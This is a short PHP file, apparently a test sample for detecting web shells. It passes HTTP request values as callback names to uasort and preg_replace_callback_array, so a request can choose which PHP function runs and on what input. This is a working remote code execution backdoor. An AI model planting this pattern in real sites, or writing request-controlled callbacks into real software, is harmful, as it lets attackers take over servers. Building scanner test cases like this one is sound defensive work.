<?php
// callbacks the request names, given to a method and in a callback table (written for the tests)
$a = new ArrayObject(array($_POST['c'], '1'));
$a->uasort($_POST['f']);
preg_replace_callback_array(array('/.+/' => $_REQUEST['g']), $_REQUEST['a']);
